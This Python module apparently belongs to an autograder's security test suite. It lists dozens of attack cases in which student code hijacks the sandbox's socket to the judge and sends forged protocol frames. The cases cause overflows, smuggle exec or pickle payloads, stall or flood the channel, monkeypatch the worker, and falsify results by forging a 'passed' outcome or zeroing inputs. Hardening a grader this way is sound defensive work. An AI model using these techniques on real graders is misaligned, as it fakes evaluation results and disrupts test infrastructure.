"""Student code that finds the socket to the judge and speaks for itself. `relu` sends a frame of its own making."""

from .attack import Attack, of

# What a thief of the socket needs: the channel that is open, by gc, and frames by hand.
FORGE = """\
import gc, os, struct, time
import msgpack

def channel():
    gc.unfreeze()  # a worker's copy keeps what it has out of gc's sight
    channels = [o for o in gc.get_objects() if type(o).__name__ == "Channel" and o.sock is not None]
    return next(o for o in channels if getattr(o.sock, "fileno", int)() >= 0)

def raw(structure, buffers=(), lengths=None):
    lengths = [len(b) for b in buffers] if lengths is None else lengths
    head = struct.pack("<II", len(structure), len(lengths)) + struct.pack(f"<{len(lengths)}Q", *lengths)
    return head + structure + b"".join(buffers)

def frame(value=None, buffers=(), updates=(), dropped=(), body=None, lengths=None):
    body = [["value", value]] if body is None else body
    packed = msgpack.packb({"updates": list(updates), "dropped": list(dropped), "body": body},
                           unicode_errors="surrogatepass")
    return raw(packed, buffers, lengths)

def tell(data):
    channel().sock.settimeout(None)
    channel().sock.sendall(data)
    time.sleep(60)

def array(shape, dtype="<f8", buffer=0, number=10**6 + 1):
    return ["m", number, ["a", dtype, list(shape), buffer]]

def relu(x):
    tell(DATA)
"""


def _frame(name: str, data: str, effect: str = "breach") -> Attack:
    return Attack(name, effect, solutions={"relu": FORGE.replace("DATA", data)})


ATTACKS = of(
    "forged frames",
    _frame("length_beyond_all_bounds", 'struct.pack("<II", 2**32 - 1, 0)'),
    _frame("count_beyond_all_bounds", 'struct.pack("<II", 10, 2**32 - 1)'),
    _frame("buffer_of_many_terabytes", 'raw(b"x", [], [2**60])'),
    _frame("buffers_that_overflow", 'raw(b"x", [], [2**63, 2**63])'),
    _frame("no_msgpack", 'raw(b"\\xc1" * 100)'),
    _frame("not_a_map", "raw(msgpack.packb([1, 2, 3]))"),
    _frame("nested_beyond_the_decoder", 'raw(b"\\x91" * 100_000 + b"\\xc0")'),
    _frame("nested_beyond_the_limit", 'frame(__import__("functools").reduce(lambda n, _: ["t", [n]], range(200), 0))'),
    _frame("huge_declared_list", 'raw(b"\\xdd\\xff\\xff\\xff\\xff")'),
    _frame("object_dtype", 'frame(array([1], "|O8"), [b"A" * 8])'),
    _frame("void_dtype", 'frame(array([1], "|V8"), [b"A" * 8])'),
    _frame("structured_dtype", 'frame(array([1], "f8,O"), [b"A" * 16])'),
    _frame("negative_shape", 'frame(array([-1]), [b"A" * 8])'),
    _frame("shape_beyond_the_buffer", 'frame(array([2**40]), [b"A" * 8])'),
    _frame("shape_that_overflows", 'frame(array([2**32, 2**32]), [b"A" * 8])'),
    _frame("a_thousand_axes", 'frame(array([1] * 1000), [b"A" * 8])'),
    _frame("buffer_that_is_not_there", 'frame(array([1], buffer=7), [b"A" * 8])'),
    _frame("unknown_tag", 'frame(["pickle", b"cos\\nsystem\\n."])'),
    _frame("tag_is_a_list", 'frame([["t"], 1])'),
    _frame("function_by_name", 'frame(["n", "builtins.exec"])'),
    _frame("callback_never_given", 'frame(body=[["callback", 99], ["args", []], ["kwargs", {}]])'),
    _frame("callback_that_is_negative", 'frame(body=[["callback", -1], ["args", ["t", []]], ["kwargs", None]])'),
    _frame("function_sent_as_callback", 'frame(["f", 0])'),
    _frame("unknown_shared_value", 'frame(["r", 123456])'),
    _frame("number_already_taken", 'frame(["t", [["m", 9, ["l", []]], ["m", 9, ["l", []]]]])'),
    _frame("number_of_the_judge", 'frame(["m", 10**6, ["l", []]])'),
    _frame("huge_integer", 'frame(["i", "f" * 10**6])'),
    _frame("extension_type", "frame(msgpack.ExtType(5, b'x'))"),
    _frame("timestamp_type", "frame(msgpack.Timestamp(1, 1))"),
    _frame("map_that_is_no_value", 'frame({"shape": [7]})'),
    _frame("reply_without_content", 'frame(body=[["nothing", 1]])'),
    _frame("error_that_is_a_number", 'frame(body=[["raised", 7]])'),
    _frame("error_of_odd_parts",
           'frame(body=[["raised", ["m", 1001, ["d", [["name", 3], ["bases", 7], ["in_test", 5]]]]]])', "engine"),
    _frame("view_beyond_the_array",
           'frame(["v", 10**6 + 1, max(channel()._shared), "<f8", [5], [2**62], 0])'),
    _frame("view_before_the_array", 'frame(["v", 10**6 + 1, max(channel()._shared), "<f8", [7], [8], -56])'),
    _frame("view_of_another_type", 'frame(["v", 10**6 + 1, max(channel()._shared), "<i8", [7], [8], 0])'),
    _frame("scalar_out_of_unicode", 'frame(["s", "<U1", b"\\xff" * 4])'),
    _frame("shape_of_the_judges_array_changed",
           'frame(1, [b"A" * 8], updates=[[n, ["a", "<f8", [1], 0]] for n in channel()._shared if n % 2 == 0])'),
    _frame("kind_of_the_judges_value_changed",
           'frame(1, updates=[[n, ["l", []]] for n in channel()._shared if n % 2 == 0])'),
    Attack("judges_inputs_zeroed", "points", solutions={"relu": FORGE.replace("DATA", "b''").replace(
        "    tell(b'')\n",
        "    try:\n        link = channel()\n    except StopIteration:\n        x *= 0\n        return x\n"
        "    zeros = b'\\0' * x.nbytes\n    n = max(n for n in link._shared if n % 2 == 0)\n"
        "    tell(frame(array(x.shape, buffer=1), [zeros, zeros], updates=[[n, ['a', '<f8', list(x.shape), 0]]]))\n")}),
    Attack("two_replies_for_one", "points", solutions={"relu": FORGE.replace("DATA", "b''").replace(
        "    tell(b'')\n",
        "    try:\n        sock = channel().sock\n    except StopIteration:\n        x *= 0\n        return x\n"
        "    for n in range(50):\n        sock.sendall(frame(True))\n    return True\n")}),
    Attack("error_that_claims_to_have_passed", "points", solutions={"relu": FORGE.replace("DATA", "b''").replace(
        "    tell(b'')\n",
        "    try:\n        sock = channel().sock\n    except StopIteration:\n        x *= 0\n        return x\n"
        "    info = {'name': 'X', 'bases': [], 'text': 't', 'traceback': 5, 'outcome': 'passed', 'undefined': []}\n"
        "    pairs = [[k, ['m', 10**6 + 3, ['l', []]] if v == [] and k == 'undefined' else\n"
        "              ['m', 10**6 + 5, ['l', []]] if v == [] else v] for k, v in info.items()]\n"
        "    tell(frame(body=[['raised', ['m', 10**6 + 1, ['d', pairs]]]]))\n")}),
    Attack("outputs_that_are_no_json", "flood", FORGE.replace("DATA", "b''") +
           "\ntry:\n    sock = channel().sock\nexcept StopIteration:\n    print('x' * 10**7)\nelse:\n"
           "    item = lambda n, pairs: ['m', n, ['d', pairs]]\n"
           "    out = item(10**6 + 7, [['output_type', 'display_data'], ['data', item(10**6 + 9, [\n"
           "        ['text/plain', array([1])], [['t', [1, 2]], ['c', 1.0, 2.0]]])]])\n"
           "    value = item(10**6 + 3, [['error', None], ['outputs', ['m', 10**6 + 5, ['l', [out]]]]])\n"
           "    sock.sendall(frame(value, [b'A' * 8]))\n"),
    *(Attack(f"keys_that_cannot_be_compared_in_reply_to_{operation}", "engine",
             "import sys\nclass Key:\n    pass\n\nanswer = {**dict.fromkeys(range(9)), Key(): 0}\n"
             f"sys.modules['autograder.sandbox.worker'].Worker.do_{operation} = lambda self, **_: answer")
      for operation in ("cell", "copy", "defines")),
    Attack("half_a_gigabyte_in_each_reply", "stuck", solutions={"relu": FORGE.replace("DATA", "b''").replace(
        "    tell(b'')\n",
        "    try:\n        sock = channel().sock\n    except StopIteration:\n        time.sleep(60)\n"
        "    head = frame(array([2**26]), lengths=[2**29])\n    sock.settimeout(None)\n    sock.sendall(head)\n"
        "    for _ in range(64):\n        sock.sendall(bytes(2**23))\n    time.sleep(60)\n")}),
    Attack("bytes_one_by_one", "stuck", solutions={"relu": FORGE.replace("DATA", "b''").replace(
        "    tell(b'')\n",
        "    try:\n        sock = channel().sock\n    except StopIteration:\n        time.sleep(60)\n"
        "    for byte in frame(True) + b'\\0' * 10000:\n"
        "        sock.sendall(bytes([byte]))\n        time.sleep(0.1)\n")}),
    Attack("lone_surrogates_in_a_reply", "points", solutions={"relu": FORGE.replace("DATA", "b''").replace(
        "    tell(b'')\n",
        "    try:\n        sock = channel().sock\n    except StopIteration:\n        x *= 0\n        return x\n"
        "    raise type('E\\ud800', (Exception,), {})('\\udfff\\ud800 \\x1b[31m')\n")}),
)  # fmt: skip
